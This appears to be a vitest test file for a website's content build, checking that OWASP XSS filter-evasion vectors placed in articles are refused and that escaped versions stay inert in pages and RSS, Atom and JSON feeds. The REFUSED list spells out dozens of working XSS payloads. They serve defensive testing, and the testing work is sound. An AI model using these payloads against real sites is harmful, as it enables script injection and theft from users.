/**
 * Content that injects (issue 18.7): the content build (compileItem, which
 * scripts/build-content.ts runs on every file) refuses every vector of OWASP's XSS filter
 * evasion cheat sheet placed in a real article, naming the file and the construct; what it
 * accepts (the same payloads written as text or code) reaches the article page and the
 * three feeds as text, never as a live element, handler or script URL.
 */
import { exports } from "cloudflare:workers";
import { XMLParser } from "fast-xml-parser";
import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { ContentError, compileItem } from "../scripts/content/compile.ts";
import { buildFeed } from "../src/feeds/build-feeds.ts";
import { articlePath } from "../src/feeds/publication.ts";
import { articlePage } from "../src/pages/article-page.ts";
import eventSource from "../content/waic-ai-developer-forum-2021.md?raw";
import interviewSource from "../content/zhang-hongjiang-interview.md?raw";

const FILE = "content/hostile.md";
const SITE = "http://example.com";

/** The real interview with one more paragraph at the end: a payload inside a real article. */
const withParagraph = (markdown: string) => `${interviewSource.trimEnd()}\n\n${markdown}\n`;

function buildError(source: string): string {
  try {
    compileItem(FILE, source);
  } catch (error) {
    if (error instanceof ContentError) return error.message;
    throw error;
  }
  throw new Error("the build accepted it");
}

/** [vector, what the build error names]: from OWASP's XSS Filter Evasion Cheat Sheet, plus Markdown's own link forms. */
const REFUSED: [string, string][] = [
  ['<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>', 'element <script src="https://xss.example/xss.js">'],
  [`<IMG SRC="javascript:alert('XSS');">`, `element <img src="javascript:alert('XSS');">`],
  ['<a onmouseover="alert(document.cookie)">xxs link</a>', 'attribute onmouseover="alert(document.cookie)" on <a>'],
  ['<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', "element <script>"],
  ['<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>', 'onerror="alert(String.fromCharCode(88,83,83))"'],
  ['<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">', `onerror="javascript:alert('XSS')"`],
  ['<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>', `link href="javascript:alert('XSS')" on <a>`],
  ['<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>', `link href="javascript:alert('XSS')"`],
  [`<a href="JaVaScRiPt:alert('XSS')">x</a>`, `link href="JaVaScRiPt:alert('XSS')"`],
  [`<a href=" javascript:alert('XSS')">x</a>`, `link href=" javascript:alert('XSS')"`],
  [`<a href="jav&#x09;ascript:alert('XSS');">x</a>`, `link href="jav\\tascript:alert('XSS');"`],
  [`<a href="jav&#x0A;ascript:alert('XSS');">x</a>`, `link href="jav\\nascript:alert('XSS');"`],
  [`<a href=" &#14;  javascript:alert('XSS');">x</a>`, `javascript:alert('XSS');" on <a>`],
  ['<a href="javascript&colon;alert(1)">x</a>', 'link href="javascript:alert(1)"'],
  ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', 'link href="data:text/html;base64,'],
  [`<a href="vbscript:msgbox('XSS')">x</a>`, `link href="vbscript:msgbox('XSS')"`],
  ['<<SCRIPT>alert("XSS");//\\<</SCRIPT>', "element <script>"],
  ["<SCRIPT SRC=http://xss.example/xss.js?< B >", "element <script"],
  ['</TITLE><SCRIPT>alert("XSS");</SCRIPT>', "element <script>"],
  [`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, "element <input"],
  [`<BODY BACKGROUND="javascript:alert('XSS')">`, "element <body"],
  ['<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', "element <body"],
  ['<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>', "element <svg>"],
  [`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, "element <link"],
  ["<STYLE>@import'http://xss.example/xss.css';</STYLE>", "element <style>"],
  ['<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">', "element <meta"],
  [`<TABLE BACKGROUND="javascript:alert('XSS')"></TABLE>`, `attribute background="javascript:alert('XSS')" on <table>`],
  [`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`, "element <div"],
  [`<p style="width: expression(alert('XSS'));">x</p>`, `attribute style="width: expression(alert('XSS'));" on <p>`],
  [`<BASE HREF="javascript:alert('XSS');//">`, "element <base"],
  ['<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>', "element <object"],
  ['<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml"></EMBED>', "element <embed"],
  ['<IFRAME SRC="javascript:alert(1);"></IFRAME>', "element <iframe"],
  ["<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->", "markup <!--[if gte IE 4]>"],
  ["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>", "element <math>"],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "element <noscript>"],
  ["[x](javascript:alert(1))", 'link href="javascript:alert(1)"'],
  ["[x](JaVaScRiPt:alert(1))", 'link href="JaVaScRiPt:alert(1)"'],
  ["[x](<javascript:alert(1)>)", 'link href="javascript:alert(1)"'],
  ["[x](vbscript:msgbox(1))", 'link href="vbscript:msgbox(1)"'],
  ["[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", 'link href="data:text/html;base64,'],
  ["<javascript:alert(1)>", 'link href="javascript:alert(1)"'],
  ["[x]: javascript:alert(1)\n\n[y][x]", 'link href="javascript:alert(1)"'],
  ["[x](//xss.example/)", 'link href="//xss.example/"'],
];

/** The same payloads written as text or code, as an article about XSS would: they stay text. */
const ACCEPTED = [
  "&lt;script&gt;alert(1)&lt;/script&gt; 与 &lt;img src=x onerror=alert(1)&gt;",
  "`<svg onload=alert(1)>`",
  "```\n<a href=\"javascript:alert(1)\">x</a>\n```",
  "\\<iframe src=javascript:alert(1)>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "javascript:alert(1) data:text/html,x vbscript:msgbox(1)",
];

/** The live constructs of a document: elements that run or load something, event handlers, and link targets. */
function liveConstructs(html: string) {
  const found = { elements: [] as string[], handlers: [] as string[], urls: [] as string[] };
  const parser = new Parser({
    onopentag(name, attributes) {
      if (["script", "iframe", "img", "svg", "math", "object", "embed", "base", "input", "frame"].includes(name)) found.elements.push(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (attribute.startsWith("on")) found.handlers.push(`${attribute}=${value}`);
        if (["href", "src", "action", "xlink:href", "background"].includes(attribute)) found.urls.push(value);
      }
    },
  });
  parser.write(html);
  parser.end();
  return found;
}

/** A URL a reader may follow: http(s), mailto or relative (no scheme before the first / ? #). */
const followable = (url: string) => /^(https?:|mailto:)/i.test(url) || !/^[^/?#]*:/.test(url);

function expectInert(html: string, where: string): void {
  const live = liveConstructs(html);
  expect(live.elements, where).toEqual([]);
  expect(live.handlers, where).toEqual([]);
  expect(live.urls.filter((url) => !followable(url)), where).toEqual([]);
}

const xml = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: "@", parseTagValue: false });

/** The HTML each feed gives a reader for its entries. */
function feedHtml(rss: string, atom: string, json: string): Record<string, string[]> {
  const list = <T>(value: T | T[]): T[] => (Array.isArray(value) ? value : [value]);
  const rssItems = list((xml.parse(rss) as { rss: { channel: { item: { "content:encoded": string; description: string } | { "content:encoded": string; description: string }[] } } }).rss.channel.item);
  const atomEntries = list((xml.parse(atom) as { feed: { entry: { content: { "#text": string } } | { content: { "#text": string } }[] } }).feed.entry);
  const jsonItems = (JSON.parse(json) as { items: { content_html: string }[] }).items;
  return {
    "/rss.xml": rssItems.flatMap((item) => [item["content:encoded"], item.description]),
    "/atom.xml": atomEntries.map((entry) => entry.content["#text"]),
    "/feed.json": jsonItems.map((item) => item.content_html),
  };
}

describe("the content build refuses HTML outside the allow-list", () => {
  it.each(REFUSED)("refuses %s, naming the file and the construct", (vector, construct) => {
    const message = buildError(withParagraph(vector));
    expect(message.startsWith(`${FILE}:\n`), message).toBe(true);
    const line = message.split("\n").find((l) => l.includes(construct));
    expect(line, message).toMatch(/^ {2}- body: .* is outside the HTML allow-list$/);
  });

  it("checks an event's call to register like its body", () => {
    const source = eventSource.replace("<!-- registration -->\n", "<!-- registration -->\n\n[报名](javascript:alert(1))\n\n");
    expect(buildError(source)).toContain('registration: link href="javascript:alert(1)" on <a>');
  });

  it("refuses a source or registration URL that is not http or https", () => {
    const source = interviewSource.replace(/^source:\n(\s+name: .*)$/m, 'source:\n$1\n  url: "javascript:alert(1)"');
    expect(source).toContain('url: "javascript:alert(1)"');
    expect(buildError(source)).toContain('field "source.url": an http or https URL');
    const registration = eventSource.replace(/^event:\n/m, 'event:\n  registration: { url: "data:text/html,x" }\n');
    expect(buildError(registration)).toContain('field "event.registration.url": an http or https URL');
  });

  it("keeps links to http, https and mailto, relative links and the figure markup", () => {
    const item = compileItem(FILE, withParagraph("[站内](/articles/x) [脚注](#f) [邮件](mailto:a@example.com) [原文](https://example.com/a?b=1&c=2)"));
    expect(item.html).toContain('<a href="/articles/x">站内</a> <a href="#f">脚注</a> <a href="mailto:a@example.com">邮件</a> <a href="https://example.com/a?b=1&amp;c=2">原文</a>');
    expect(item.html).toContain('<figure class="figure"><figcaption>');
  });
});

describe("payloads written as text reach readers as text", () => {
  const item = compileItem(FILE, withParagraph(ACCEPTED.join("\n\n")));

  it("the compiled item shows them as text", () => {
    expect(item.html).toContain("<p>&lt;script&gt;alert(1)&lt;/script&gt; 与 &lt;img src=x onerror=alert(1)&gt;</p>");
    expect(item.html).toContain("<code>&lt;svg onload=alert(1)&gt;</code>");
    expectInert(item.html, "item.html");
    // The check itself sees a live payload.
    for (const live of ['<img src="x">', '<a onclick="x">', '<a href=" javascript:x">']) expect(() => expectInert(live, "probe")).toThrow();
  });

  it("the article page carries none of them live", async () => {
    const page = String(await articlePage(item, SITE, new Date()));
    expect(page).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expectInert(page, "article page");
  });

  it("/rss.xml, /atom.xml and /feed.json carry none of them live", () => {
    const view = { document: { kind: "current" }, pageSize: 20, updatesPerWeek: 1 } as const;
    const build = (format: "rss" | "atom" | "json") => buildFeed([item], { siteUrl: SITE }, format, view);
    const feeds = feedHtml(build("rss"), build("atom"), build("json"));
    for (const [feed, bodies] of Object.entries(feeds)) {
      expect(bodies.length, feed).toBeGreaterThan(0);
      expect(bodies.join("\n"), feed).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
      for (const body of bodies) expectInert(body, feed);
    }
  });
});

describe("what the Worker serves", () => {
  const get = async (path: string) => (await exports.default.fetch(`${SITE}${path}`)).text();

  it("the served feeds and article pages hold only allowed HTML", async () => {
    const [rss, atom, json] = await Promise.all([get("/rss.xml"), get("/atom.xml"), get("/feed.json")]);
    for (const [feed, bodies] of Object.entries(feedHtml(rss, atom, json))) {
      // Both items; RSS gives each twice (description and content:encoded).
      expect(bodies.length, feed).toBeGreaterThanOrEqual(2);
      for (const body of bodies) expectInert(body, feed);
    }
    for (const slug of ["zhang-hongjiang-interview", "waic-ai-developer-forum-2021"]) expectInert(await get(articlePath(slug)), slug);
  });
});
